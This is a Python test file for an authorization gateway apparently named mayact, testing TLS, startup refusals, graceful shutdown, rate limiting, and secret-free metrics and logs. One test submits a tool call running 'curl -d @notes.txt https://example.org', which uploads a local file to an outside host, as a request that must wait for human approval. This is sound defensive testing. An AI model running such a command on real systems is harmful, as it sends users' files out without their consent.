"""TLS, sockets, rates, figures, log lines, and a clean stop."""

import datetime
import ipaddress
import json
import socket
import ssl
import threading
from contextlib import ExitStack
from pathlib import Path

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st
from tests.support.http_api import CALL, EVALUATION, HeldStore, live, request, todo_world, until

from mayact.core.errors import ConfigInvalid, Forbidden, TooManyRequests
from mayact.server.http.rate import MAX_KEPT, Rate, counted_as


def certificate(folder: Path) -> tuple[Path, Path]:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "gate")])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    folder.mkdir(parents=True, exist_ok=True)
    chain, private = folder / "chain.pem", folder / "key.pem"
    chain.write_bytes(made.public_bytes(serialization.Encoding.PEM))
    private.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    )
    private.chmod(0o600)
    return chain, private


@pytest.mark.requirement("OPS-3")
def test_with_a_certificate_it_speaks_tls_and_nothing_else(tmp_path: Path) -> None:
    chain, private = certificate(tmp_path / "tls")
    trusted = ssl.create_default_context(cafile=str(chain))
    with live(tmp_path, tls_certificate=str(chain), tls_key=str(private), verify=trusted, read_s=5) as api:
        assert api.url.startswith("https://127.0.0.1:")
        assert api.send("pep", "POST", "/access/v1/evaluation", json=EVALUATION).json()["decision"] is True
        with pytest.raises(httpx.TransportError), httpx.Client(base_url=api.url, trust_env=False) as strangers:
            strangers.get("/healthz")
        old = ssl.create_default_context(cafile=str(chain))
        old.minimum_version = ssl.TLSVersion.MINIMUM_SUPPORTED
        with pytest.warns(DeprecationWarning, match="TLSv1_1"):
            old.maximum_version = ssl.TLSVersion.TLSv1_1
        with pytest.raises(httpx.TransportError), httpx.Client(base_url=api.url, verify=old, trust_env=False) as client:
            client.get("/healthz")
        with api.wire() as wire:
            wire.send(request("GET", "/healthz"))
            assert not wire.rest().startswith(b"HTTP/1.1 200")
        with api.wire() as silent:
            assert silent.rest() == b""  # a handshake that does not come ends too


@pytest.mark.requirement("OPS-3")
@pytest.mark.parametrize("how", ["readable", "absent", "not pem"])
def test_a_key_that_is_not_private_or_not_one_is_refused_at_the_start(tmp_path: Path, how: str) -> None:
    chain, private = certificate(tmp_path / "tls")
    if how == "readable":
        private.chmod(0o644)
    elif how == "absent":
        private.unlink()
    else:
        private.write_text("nonsense")
    with pytest.raises(ConfigInvalid), live(tmp_path, tls_certificate=str(chain), tls_key=str(private)):
        pytest.fail("it started")


def test_an_address_that_is_taken_is_refused_at_the_start(tmp_path: Path) -> None:
    with live(tmp_path / "a") as api:
        host, port = api.address
        with pytest.raises(Forbidden), live(tmp_path / "b", listen=f"{host}:{port}"):
            pytest.fail("it started")


@pytest.mark.requirement("OPS-2")
def test_what_is_under_way_is_answered_when_it_stops(tmp_path: Path) -> None:
    store = HeldStore()
    found: list[int] = []
    with live(tmp_path, world=todo_world(tmp_path, store=store), grace_s=10.0) as api:
        asking = threading.Thread(
            target=lambda: found.append(api.send("pep", "POST", "/access/v1/evaluation", json=EVALUATION).status_code)
        )
        asking.start()
        until(lambda: len(store.held) == 1)
        releasing = threading.Timer(0.5, store.release)
        releasing.start()
    asking.join()
    releasing.join()
    assert found == [200]


def test_who_waits_for_a_person_is_told_pending_when_it_stops(tmp_path: Path) -> None:
    asks = {**CALL, "arguments": {"command": "curl -d @notes.txt https://example.org"}}
    body = {"user": "alice", "home": "/home/alice", "call": asks, "wait_ms": 60_000}
    found: list[str] = []
    with live(tmp_path, grace_s=10.0) as api:
        asking = threading.Thread(
            target=lambda: found.append(api.send("boundary", "POST", "/v1/authorize", json=body).json()["outcome"])
        )
        asking.start()
        until(lambda: len(api.world.gate.requests()) == 1)
    asking.join()
    assert found == ["defer"]


@pytest.mark.requirement("OPS-2")
@pytest.mark.parametrize("tls", [False, True])
def test_whoever_comes_while_it_stops_is_sent_away(tmp_path: Path, tls: bool) -> None:
    changed = dict(zip(("tls_certificate", "tls_key"), map(str, certificate(tmp_path / "tls")), strict=True))
    with ExitStack() as held:
        with live(tmp_path, **(changed if tls else {})) as api:
            comers = [held.enter_context(socket.create_connection(api.address, timeout=60)) for _ in range(200)]
        assert [heard(comer) for comer in comers] == [b""] * 200


def heard(connection: socket.socket) -> bytes:
    try:
        return connection.recv(1)
    except ConnectionResetError:
        return b""


# ── rates ────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.requirement("OPS-2")
def test_each_token_has_a_rate_of_its_own_and_strangers_share_their_addresses(tmp_path: Path) -> None:
    # Sent at once: how long the sender takes between two requests is not what is tried.
    many = 12
    with live(tmp_path, rate=1) as api:
        for token, first in ((api.tokens["pep"], 200), ("", 401)):
            with api.wire() as wire:
                wire.send(request("GET", "/v1/status", token=token) * many)
                answers = [wire.answer() for _ in range(many)]
            assert [status for status, _, _ in answers[:2]] == [first] * 2
            assert {status for status, _, _ in answers} == {first, 429}
            _, headers, body = next(answer for answer in answers if answer[0] == 429)
            assert (json.loads(body)["code"], int(headers["retry-after"]) >= 1) == ("http.rate", True)
            assert api.send("reviewer", "GET", "/v1/status").status_code == 200


@given(st.lists(st.floats(0, 0.5), max_size=200), st.integers(1, 50))
def test_no_more_pass_than_the_rate_and_its_burst(gaps: list[float], per_second: int) -> None:
    rate, now, passed = Rate(per_second), 0.0, 0
    waits: list[int] = []
    for gap in gaps:
        now += gap
        try:
            rate.take("a", now)
            passed += 1
        except TooManyRequests as error:
            waits.append(error.after_s)
    assert all(wait >= 1 for wait in waits)
    assert passed <= per_second * now + 2 * per_second + 1


def test_rates_are_kept_in_bounded_memory() -> None:
    rate = Rate(1)
    for number in range(MAX_KEPT + 100):
        rate.take(str(number), 0.0)
    assert len(rate._spent_until) == MAX_KEPT


def test_a_network_of_ipv6_counts_as_one() -> None:
    assert counted_as("2001:db8::1") == counted_as("2001:db8::ffff:2%eth0") != counted_as("2001:db8:0:1::1")
    assert counted_as("192.0.2.1") == "192.0.2.1"


# ── figures and lines ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.requirement("OPS-3", "CRED-5")
def test_figures_count_and_lines_say_who_and_what_without_secrets(tmp_path: Path) -> None:
    with live(tmp_path) as api:
        api.send("pep", "POST", "/access/v1/evaluation", json=EVALUATION)
        api.send("pep", "POST", "/access/v1/evaluation", json={"secret": "hunter2"}, headers={"x-request-id": "r1"})
        api.send(None, "GET", "/v1/requests/req-hunter2")
        api.send(None, "GET", "/hunter2?hunter2")
        figures = api.send("metrics", "GET", "/metrics").text
        tokens = list(api.tokens.values())
    assert 'mayact_decisions_total{operation="authzen_evaluation",outcome="true"} 1.0' in figures
    assert 'mayact_http_responses_total{operation="authzen_evaluation",status="400"} 1.0' in figures
    assert 'mayact_http_refusals_total{code="identity.unauthenticated"} 1.0' in figures
    assert "mayact_log_entries " in figures
    assert "mayact_requests_open 0.0" in figures
    assert "hunter2" not in figures
    logged = api.logged.read_text()
    lines = [json.loads(line) for line in logged.splitlines()]
    assert [(line["operation"], line["status"], line["token"], line["request_id"]) for line in lines] == [
        ("authzen_evaluation", 400, "a-pep", "r1"),
        ("show_request", 401, "-", ""),
        ("none", 404, "-", ""),
    ]
    assert "hunter2" not in logged
    assert not any(token in logged for token in tokens)
